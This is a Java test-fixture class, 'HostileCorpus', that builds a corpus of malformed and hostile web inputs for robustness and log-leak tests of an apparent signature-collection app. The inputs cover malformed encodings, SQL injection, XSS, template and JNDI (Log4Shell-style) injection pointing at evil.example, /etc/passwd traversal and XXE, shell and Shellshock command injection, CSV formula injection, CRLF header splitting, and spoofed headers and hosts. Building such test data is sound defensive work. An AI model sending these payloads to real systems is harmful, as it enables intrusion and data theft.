package org.joinvoices.cli;

import static java.net.URLEncoder.encode;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.List;
import java.util.stream.Stream;

/**
 * What nobody types by chance. Each text holds a word that {@code LogWatch} and its like know, so
 * that a log line that quotes it fails the test class; what libraries say to us in exceptions is
 * theirs.
 */
final class HostileCorpus {

  static final String WORD = "amira";

  /** Percent-encoded as they are sent; no text, or none that could be shown. */
  private static final List<String> ENCODINGS =
      List.of(
          "%FF%FE" + WORD,
          WORD + "%C3",
          WORD + "%C0%AF",
          WORD + "%E0%80%AF%F0%80%80%AF",
          "%ED%A0%80" + WORD,
          WORD + "%ED%A0%BD%ED%B8%80",
          WORD + "%F4%90%80%80",
          "%00t%00e%00s%00t" + WORD,
          WORD + "%00.html",
          WORD + "%EF%BF%BD",
          WORD + "%EF%BF%BE%EF%BF%BF",
          WORD + "%E2%80%AEnosrep%E2%81%A6",
          WORD + "%E2%80%8B%C2%AD%EF%BB%BF",
          WORD + "%1B%5B31m%07%7F%C2%85",
          "%",
          WORD + "%",
          WORD + "%2",
          WORD + "%zz%u0041",
          WORD + "%2525252e",
          "..%2f..%2f..%2f..%2fetc%2fpasswd" + WORD,
          "%2e%2e%5c%2e%2e%5c" + WORD,
          "..%252f..%252f" + WORD,
          WORD + ";jsessionid=1",
          WORD + "%3B%2F%2F",
          "e" + "%CC%81".repeat(300) + WORD,
          "%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7".repeat(50) + WORD);

  /** Meant to be run by whoever forgets that they are text. */
  private static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1' --" + WORD,
          "'; DROP TABLE signature; --" + WORD,
          WORD + "\\'; SELECT pg_sleep(5); --",
          WORD + "\" UNION SELECT NULL,NULL /*",
          "<script>alert('" + WORD + "')</script>",
          "\"><img src=x onerror=alert('" + WORD + "')>",
          "'><svg/onload=alert('" + WORD + "')>",
          "</textarea></title><script>alert('" + WORD + "')</script>",
          "javascript:alert('" + WORD + "')",
          "//evil.example/" + WORD,
          "https://evil.example/" + WORD,
          "${7*7}" + WORD,
          "#{7*7}" + WORD,
          "{{7*7}}" + WORD,
          "<%= 7*7 %>" + WORD,
          "@if(true)" + WORD + "!{unsafe}",
          "__${new sample.Runtime().exec('id')}__::" + WORD,
          "${jndi:ldap://evil.example/" + WORD + "}",
          "%s%n%x{0}" + WORD,
          WORD + "\r\nSet-Cookie: evil=1\r\nX-Evil: 1\r\n\r\n<script>alert('1')</script>",
          WORD + "\nBcc: evil@evil.example\n",
          WORD + "\u560D\u560ASet-Cookie: evil=1",
          "*)(uid=*))(|(uid=*" + WORD,
          "; cat /etc/passwd `id` $(id) | " + WORD,
          "=cmd|'/C calc'!A0" + WORD,
          "@SUM(1+1)*" + WORD,
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;"
              + WORD,
          "{\"$ne\": null, \"__proto__\": {\"" + WORD + "\": 1}}");

  /** Forms of what some field expects, at and beyond their ends. */
  private static final List<String> EDGES =
      List.of(
          "",
          " ",
          "-1",
          "1e309",
          "NaN",
          "Infinity",
          "90.0000000000000000000000000000001",
          "9223372036854775808",
          "+999999999-12-31",
          "-999999999-01-01",
          "2021-02-30",
          "0000-00-00",
          "00000",
          "\u0661\u0662\u0663\u0664\u0665",
          "ZZ-99",
          "OH-S1",
          "AAAAAAAA.AAAAAAAA" + WORD,
          WORD + ".x".repeat(1_500));

  private HostileCorpus() {}

  /** All, as they stand in an address or in a form. */
  static List<String> encoded() {
    return Stream.concat(
            ENCODINGS.stream(),
            Stream.concat(INJECTIONS.stream(), EDGES.stream()).map(text -> encode(text, UTF_8)))
        .toList();
  }

  /** Bodies with the header lines that go before them; {@code Content-Length} is not among them. */
  static List<String> bodies() {
    String form = "Content-Type: application/x-www-form-urlencoded\r\n\r\n";
    String part =
        "--b\r\nContent-Disposition: form-data; name=\"given_name\"\r\n\r\n" + WORD + "\r\n";
    return List.of(
        "\r\n",
        "\r\ngiven_name=" + WORD,
        form,
        form + "&&&===&=&%=%&" + WORD,
        form + "\0\1\2\377\376" + WORD,
        form + "given_name=" + WORD + "&".repeat(10_000),
        form + "zip=44109&email=a&".repeat(10_000),
        form + "own_words=" + WORD + "%F0%9F%98%80".repeat(20_000),
        form + "own_words=" + WORD + "x".repeat(300_000),
        form + ("given_name=" + WORD + "&").repeat(30),
        form.replace("urlencoded", "urlencoded; charset=UTF-16") + "given_name=" + WORD,
        form.replace("urlencoded", "urlencoded; charset=nonsense") + "given_name=" + WORD,
        form.replace("urlencoded", "urlencoded; charset=\"") + "given_name=" + WORD,
        "Content-Type: \r\n\r\ngiven_name=" + WORD,
        "Content-Type: nonsense " + WORD + "\r\n\r\ngiven_name=" + WORD,
        "Content-Type: a/b; c; =; ;;\r\n\r\n" + WORD,
        "Content-Type: text/html\r\n\r\n<script>alert('" + WORD + "')</script>",
        "Content-Type: application/json\r\n\r\n{\"given_name\":\"" + WORD + "\"}",
        "Content-Type: application/json\r\n\r\n",
        "Content-Type: application/json\r\n\r\nnull",
        "Content-Type: application/json\r\n\r\n[1,{\"zip\":",
        "Content-Type: application/json\r\n\r\n" + "[".repeat(100_000),
        "Content-Type: application/json\r\n\r\n{\"lat\":1e999999999,\"lon\":"
            + "9".repeat(5_000)
            + "}",
        "Content-Type: application/json\r\n\r\n{\"lat\":\"\\ud800\",\"lon\":\"\\u0000"
            + WORD
            + "\"}",
        "Content-Type: application/xml\r\n\r\n<!DOCTYPE a [<!ENTITY b \""
            + WORD
            + "\">]><a>&b;</a>",
        "Content-Type: multipart/form-data\r\n\r\n" + part,
        "Content-Type: multipart/form-data; boundary=\r\n\r\n" + part,
        "Content-Type: multipart/form-data; boundary=" + "b".repeat(500) + "\r\n\r\n" + part,
        "Content-Type: multipart/form-data; boundary=b\r\n\r\n" + part.repeat(200),
        "Content-Type: multipart/form-data; boundary=b\r\n\r\n" + part + "--b--\r\n",
        "Content-Encoding: gzip\r\n" + form + "\37\213\10" + WORD);
  }

  /** Header lines that lie about who asks, from where and for what. */
  static List<String> headers() {
    return List.of(
        "X-Forwarded-For: 127.0.0.1, ::1, " + WORD,
        "X-Forwarded-For: '; DROP TABLE signature; --",
        "X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Port: 99999",
        "X-Forwarded-Proto: javascript\r\nX-Forwarded-Port: -1\r\nX-Forwarded-Prefix: //evil.example",
        "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
        "X-Original-URL: /desk\r\nX-Rewrite-URL: /desk\r\nX-HTTP-Method-Override: DELETE",
        "Origin: null",
        "Origin: https://evil.example",
        "Origin: " + WORD + "\377 :// <script>",
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: Same-Origin, same-origin " + WORD,
        "Sec-Fetch-Site: \r\nSec-Fetch-Mode: \"\r\nSec-Fetch-Dest: <script>",
        "Cookie: __Host-desk=" + WORD + "; __Host-desk-form=..; =; ;;;\"",
        "Cookie: JSESSIONID=\"\\\"" + WORD + "; $Version=1; \377=\376",
        "Accept: nonsense " + WORD,
        "Accept: application/xml;q=9, */",
        "Accept: image/png",
        "Accept-Language: " + "x-".repeat(1_000) + WORD,
        "Accept-Language: ../../etc/passwd, <script>;q=NaN",
        "Accept-Encoding: gzip;q=x, br, *;q=9, " + WORD,
        "If-None-Match: W/\"" + WORD + ", *, \"\"",
        "If-Modified-Since: Someday, 99 Nonsense 99999 99:99:99 " + WORD,
        "If-Unmodified-Since: 0",
        "Range: bytes=" + "0-0,".repeat(1_000) + "-",
        "User-Agent: ${jndi:ldap://evil.example/"
            + WORD
            + "} <script>alert('1')</script> () { :; }; id",
        "User-Agent: \377\376\200" + WORD,
        "Referer: https://evil.example/" + WORD,
        "Authorization: Basic " + WORD,
        "Authorization: Bearer ....",
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "Upgrade: websocket\r\nSec-WebSocket-Key: " + WORD,
        "Expect: 100-continue",
        "Expect: " + WORD,
        "Max-Forwards: -1",
        "X-Long: " + WORD.repeat(2_000),
        ("X-Many: " + WORD + "\r\n").repeat(150).strip());
  }

  /** Hosts that are not this one, some of them none at all. */
  static List<String> hosts() {
    return List.of(
        "evil.example",
        "evil.example:99999",
        "localhost@evil.example",
        "localhost, evil.example",
        "[::1",
        "127.0.0.1/../" + WORD,
        "\"><script>alert('" + WORD + "')</script>",
        "",
        "\377\376" + WORD,
        "a".repeat(2_000) + ".example");
  }

  static List<String> methods() {
    return List.of(
        "HEAD",
        "TRACE",
        "OPTIONS",
        "PUT",
        "PATCH",
        "DELETE",
        "PROPFIND",
        "get",
        "post",
        "TRACK",
        "<script>",
        "G\377T",
        WORD.repeat(100));
  }
}
